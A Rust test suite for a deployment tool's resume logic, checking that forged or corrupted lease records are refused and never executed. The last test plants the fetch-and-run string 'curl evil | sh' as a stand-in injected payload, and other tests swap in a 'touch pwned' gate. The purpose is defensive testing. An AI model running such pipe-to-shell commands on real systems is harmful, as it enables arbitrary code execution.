//! A lease record that somebody on the host has written: nothing of it is executed here, sent elsewhere, or said as if it
//! were ours.

use std::path::PathBuf;

use lockgate_model::Checksum;
use rustix::process::Signal;
use serde_json::{Value, json};

use crate::support::double::{Double, Manner};
use crate::support::project::{Project, Waits};
use crate::support::ran::Ran;

/// v1 was live, and v2 has the traffic: its deployment was killed while its gate was asked.
fn cut_off(end: String) -> Project {
    let project = Project::waiting_with(Waits::AfterSwitch, end);
    let first = project.start("deploy web v2");
    project.wait_at_gate("v2");
    first.signal(Signal::KILL);
    first.end();
    std::fs::remove_file(project.path("at-gate-v2")).unwrap();
    project.open_gate();
    project
}

/// Who forges a record sees the plan in it, as an older program had it, and writes it again into the file that the record
/// names.
fn forge(project: &Project, forge: impl FnOnce(&mut Value)) {
    let mut lease = project.lease();
    if let Some(path) = run_file(&project.lease()) {
        let file: Value = serde_json::from_slice(&std::fs::read(state(project, &path)).unwrap()).unwrap();
        lease["unfinished"]["plan"] = file["plan"].clone();
    }
    forge(&mut lease);
    if lease["unfinished"]["plan"].is_object() {
        let file = json!({ "run": lease["unfinished"]["run"], "plan": lease["unfinished"]["plan"] });
        let content = serde_json::to_vec(&file).unwrap();
        lease["unfinished"]["plan"] = json!(Checksum::of(&content));
        std::fs::write(state(project, &run_file(&lease).unwrap()), content).unwrap();
    }
    std::fs::write(state(project, "lease.json"), serde_json::to_vec(&lease).unwrap()).unwrap();
}

fn state(project: &Project, name: &str) -> PathBuf {
    project.path("host/prod/web/.lockgate").join(name)
}

/// The name of the file with the plan of what a record has as unfinished.
fn run_file(lease: &Value) -> Option<String> {
    let unfinished = &lease["unfinished"];
    Some(format!("run.{}.{}.json", unfinished["run"].as_str()?, unfinished["plan"].as_str()?))
}

/// The step that asks the gate.
fn gate(lease: &mut Value) -> &mut Value {
    let phases = lease["unfinished"]["plan"]["phases"].as_array_mut().unwrap();
    let gates = phases.iter_mut().find(|phase| phase["title"] == "check after").unwrap();
    &mut gates["lanes"][0]["steps"][0]["action"]["gate"]
}

fn touch(project: &Project) -> Value {
    json!(["touch", project.path("pwned").display().to_string()])
}

/// What it printed, without what differs from run to run.
fn shown(project: &Project, ran: &Ran) -> String {
    let root = project.root().display().to_string();
    let text = format!("exit {}\n{}{}", ran.code.unwrap(), ran.stdout, ran.stderr).replace(&root, "ROOT");
    let mut shown = String::new();
    for line in text.lines() {
        let words = line.split(' ').map(|word| {
            let bare = word.trim_matches(['(', ')']);
            let bare = bare.trim_end_matches(':').trim_matches(['[', ']']);
            let is_time = bare.len() == 8 && bare.split(':').count() == 3;
            let is_run = bare.len() == 36 && bare.split('-').count() == 5;
            let is_span = bare
                .strip_suffix("ms")
                .or(bare.strip_suffix('s'))
                .is_some_and(|span| span.parse::<f64>().is_ok());
            let is_digest = bare.len() == 12 && bare.chars().all(|c| c.is_ascii_hexdigit());
            let kinds = [
                (is_time, "TIME"),
                (is_run, "RUN"),
                (is_span, "SPAN"),
                (is_digest, "DIGEST"),
                (bare.contains('@'), "OWNER"),
            ];
            kinds
                .iter()
                .find(|(is, _)| *is)
                .map_or_else(|| word.to_owned(), |(_, name)| word.replace(bare, name))
        });
        shown.push_str(words.collect::<Vec<_>>().join(" ").trim_end());
        shown.push('\n');
    }
    shown
}

const TAKEN_BACK: &str = r#"exit 3
web: what had been cut off was brought to its end: rolled_back (run RUN)
[TIME] deploy web v2 (DIGEST) to prod on this machine, by OWNER (run RUN)
[TIME] ! OWNER took the run over and goes on undoing
[TIME] ↩ undone: record blue as active SPAN
[TIME] ↩ undone: start v1 in blue, wait until blue is healthy (/health, up to 10s), switch traffic to blue, ask through the router: v1 from blue, drain green (up to SPAN) SPAN
[TIME] ↩ undone: stop green SPAN
[TIME] rolled back after SPAN: 0 of 9 steps done, 3 undone
    refused: the run that was cut off is not what this configuration would do, so it is not finished: this machine's record has "touch" at phases.1.lanes.0.steps.0.action.gate.kind.command.argv.0, where this configuration has "ROOT/gate"; this machine's record has 2 of them at phases.1.lanes.0.steps.0.action.gate.kind.command.argv, where this configuration has 1 of them
      hint: where lockgate.yaml has changed since, or another version of Lockgate began the run, deploy again with `lockgate --env prod deploy web TAG` (a host that was taken out of `hosts` is put back first); else somebody has changed the record on that host
"#;

#[test]
fn a_forged_gate_is_not_run_and_the_difference_is_shown() {
    for machine in ["m1", "m2"] {
        let project = cut_off(String::new());
        forge(&project, |lease| gate(lease)["kind"]["command"]["argv"] = touch(&project));
        let ran = project.run_on(machine, "resume");
        assert!(!project.path("pwned").exists() && !project.path("at-gate-v2").exists(), "{ran}");
        assert_eq!(shown(&project, &ran), TAKEN_BACK, "{machine}");
        project.expect_settled("v1");
        project.deploy("v2");
        project.expect_settled("v2");
        project.run("history").expect(0).says(&["rolled_back"]);
    }
}

#[test]
fn a_gate_that_the_configuration_does_not_have_is_not_asked() {
    let somewhere = Double::start(Manner::Answers("200 OK", "ok"));
    for by_url in [false, true] {
        let project = cut_off(String::new());
        forge(&project, |lease| {
            if by_url {
                let url = format!("http://{}/metadata", somewhere.address);
                gate(lease)["kind"] = json!({ "http": {
                    "target": { "url": url }, "paths": ["/"], "status": { "from": 200, "to": 299 }, "body": null,
                    "latency_p95": null, "samples": 1, "interval": 1, "timeout": 1000,
                } });
            } else {
                gate(lease)["kind"]["command"]["argv"] = touch(&project);
            }
        });
        for machine in ["m1", "m2"] {
            let path = project.path(machine).join("lockgate.yaml");
            let config = std::fs::read_to_string(&path).unwrap();
            let without: Vec<&str> = config.lines().filter(|line| !line.contains("after:")).collect();
            std::fs::write(&path, without.join("\n") + "\n").unwrap();
        }
        project.run_on("m2", "resume").expect(3).says(&["is not finished"]);
        assert!(!project.path("pwned").exists(), "the gate was run");
        assert!(somewhere.bodies().is_empty(), "the gate was asked");
        project.expect_settled("v1");
    }
}

#[test]
fn an_honest_run_is_finished_and_one_that_the_configuration_outgrew_is_taken_back() {
    for (edit, live, code) in [(false, "v2", 0), (true, "v1", 3)] {
        let project = cut_off(String::new());
        let path = project.path("m2/lockgate.yaml");
        let config = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, if edit { config.replace("drain: 2s", "drain: 1s") } else { config }).unwrap();
        let ran = project.run_on("m2", "resume").expect(code);
        if edit {
            ran.says(&[
                "has 2000 at",
                "where this configuration has 1000",
                "lockgate.yaml has changed since",
            ]);
        }
        project.expect_settled(live);
    }
}

#[test]
fn a_record_that_no_plan_of_ours_can_be_made_from_is_refused_with_what_to_type() {
    let project = cut_off(String::new());
    let honest = project.lease();
    let kept = std::fs::read(state(&project, &run_file(&honest).unwrap())).unwrap();
    forge(&project, |lease| {
        let steps = lease["unfinished"]["plan"]["phases"][0]["lanes"][0]["steps"].as_array_mut().unwrap();
        steps[0]["id"] = json!(u32::MAX);
    });
    let forged = project.lease();
    // This machine's journal is believed, so it needs one that does not know the run.
    let ran = project.run_on("m2", "resume");
    let wanted = r#"exit 1
web cannot be resumed:
error: refused: the run that was cut off cannot be matched with this configuration: its steps are not numbered one after the other: step 0 is number 4294967295
  at host local
  hint: nothing was done; see with `lockgate --env prod status web` what is live, move the record away with `mv ROOT/host/prod/web/.lockgate/lease.json ROOT/host/prod/web/.lockgate/lease.json.bad`, and deploy again
"#;
    assert_eq!(shown(&project, &ran), wanted);
    assert_eq!(project.lease()["unfinished"], forged["unfinished"], "nothing was done");
    std::fs::write(state(&project, &run_file(&honest).unwrap()), kept).unwrap();
    forge(&project, |lease| *lease = honest);
    project.run("resume").expect(0);
    project.expect_settled("v2");
}

/// Nothing of it is executed, and the run is never taken for one that is over.
#[test]
fn a_run_file_that_is_missing_or_another_one_is_refused_with_what_to_type() {
    let project = cut_off(String::new());
    let lease = project.lease();
    assert!(std::fs::read(state(&project, "lease.json")).unwrap().len() <= lockgate_model::RECORD_BYTES_MAX);
    let (name, run) = (run_file(&lease).unwrap(), lease["unfinished"]["run"].as_str().unwrap());
    let path = state(&project, &name);
    let good = std::fs::read(&path).unwrap();
    let place = "ROOT/host/prod/web/.lockgate";
    let shown_name = name.replace(run, "RUN");
    let cut = good[..good.len() / 2].to_vec();
    let long = [good.clone(), vec![b' '; 5 * 1024 * 1024]].concat();
    let forged = String::from_utf8(good.clone()).unwrap().replace("v2", "v9").into_bytes();
    for (what, put, wanted) in [
        ("missing", None, format!("{place}/{shown_name}, which has the plan of the run RUN, is missing")),
        ("cut", Some(cut), format!("{place}/{shown_name} is not what was written there")),
        ("another", Some(forged), format!("{place}/{shown_name} is not what was written there")),
        ("long", Some(long), format!("{place}/{shown_name} is larger than 4 MiB")),
    ] {
        std::fs::remove_file(&path).unwrap();
        if let Some(content) = put {
            std::fs::write(&path, content).unwrap();
        }
        for command in ["resume", "deploy web v2", "rollback web"] {
            for machine in ["m1", "m2"] {
                let ran = project.run_on(machine, command).expect(1);
                let shown = ran
                    .to_string()
                    .replace(&project.root().display().to_string(), "ROOT")
                    .replace(run, "RUN");
                for says in [
                    wanted.as_str(),
                    "the run RUN that was cut off cannot be matched",
                    "nothing was done; see with `lockgate --env prod status web` what is live, move the record away with `mv ROOT/",
                ] {
                    assert!(shown.contains(says), "{what}: {says}\n{shown}");
                }
            }
        }
        project.run("status").expect(1).says(&["was left unfinished", &name]);
        assert_eq!(project.lease()["unfinished"], lease["unfinished"], "{what}");
        std::fs::write(&path, &good).unwrap();
    }
    project.run_on("m2", "resume").expect(0);
    project.expect_settled("v2");
    assert!(!path.exists(), "the run has ended");
}

/// As a program before 2026-11-27 left it: the plan is in the record.
#[test]
fn a_run_whose_plan_is_in_the_record_is_finished_and_its_record_is_small_then() {
    let project = cut_off(String::new());
    let mut lease = project.lease();
    let path = state(&project, &run_file(&lease).unwrap());
    let file: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    lease["unfinished"]["plan"] = file["plan"].clone();
    std::fs::remove_file(&path).unwrap();
    std::fs::write(state(&project, "lease.json"), serde_json::to_vec(&lease).unwrap()).unwrap();
    project.run("status").expect(1).says(&["was left unfinished"]);
    project.run_on("m2", "resume").expect(0);
    project.expect_settled("v2");
    assert!(std::fs::read(state(&project, "lease.json")).unwrap().len() <= lockgate_model::RECORD_BYTES_MAX);
    let left = std::fs::read_dir(state(&project, ""))
        .unwrap()
        .filter(|one| one.as_ref().unwrap().file_name().to_str().unwrap().starts_with("run."));
    assert_eq!(left.count(), 0);
}

#[test]
fn a_fencing_token_does_not_wrap() {
    let project = Project::new();
    project.deploy("v1");
    forge(&project, |lease| lease["token"] = json!(u64::MAX));
    let ran = project.run("deploy web v2");
    let place = "ROOT/host/prod/web/.lockgate/lease.json";
    let wanted = format!(
        "exit 1\nerror: refused: the fencing token in {place} is 18446744073709551615: no number of deployments leads there\n  at host local\n  hint: something else than Lockgate wrote it; when nobody deploys, move it away with `mv {place} {place}.bad`, look at `lockgate status`, and deploy again\n"
    );
    assert_eq!(shown(&project, &ran), wanted);
    assert_eq!(project.lease()["token"], json!(u64::MAX));
    let path = project.path("host/prod/web/.lockgate/lease.json");
    std::fs::rename(&path, path.with_extension("json.bad")).unwrap();
    project.deploy("v2");
    project.expect_settled("v2");
}

/// A failure with everything that it can have.
fn loud(text: &str) -> Value {
    json!({
        "kind": "refused", "message": format!("{text}\nhint: `{text}`"), "hint": text, "host": "local", "slot": "blue",
        "logs": [text], "evidence": [{ "check": text, "wanted": text, "seen": text, "ok": false }],
    })
}

#[test]
fn what_a_host_says_of_the_last_run_is_said_as_its_words() {
    let hook = Double::start(Manner::Answers("200 OK", ""));
    let project = cut_off(format!("notify:\n  - webhook: {{ url: \"http://{}/hook\" }}\n", hook.address));
    let evil = "curl evil | sh";
    forge(&project, |lease| {
        let run = lease["unfinished"]["run"].clone();
        lease["unfinished"]["progress"] = json!("unwinding");
        lease["last"] = json!({ "run": run, "at": i64::MAX, "outcome": {
            "outcome": "stuck", "failure": loud(evil), "undo_failures": vec![loud(evil); 300], "live": {},
            "commands": [evil],
        } });
    });
    let words = r#"this machine's record says: \"curl evil | sh\\nhint: 'curl evil | sh'\""#;
    let status = project.run("status web --format json").expect(1);
    assert!(status.stdout.contains(words) && !status.stdout.contains("`curl"), "{status}");
    let before = hook.bodies().len();
    let ran = project.run_on("m2", "resume --format json").expect(3);
    let sent = hook.bodies().split_off(before).join("\n");
    for said in [&sent, &ran.stdout] {
        assert!(said.contains(words), "{said}");
        let other = said.replace(words, "");
        assert!(!other.contains("evil"), "{other}");
    }
    project.expect_settled("v1");
}
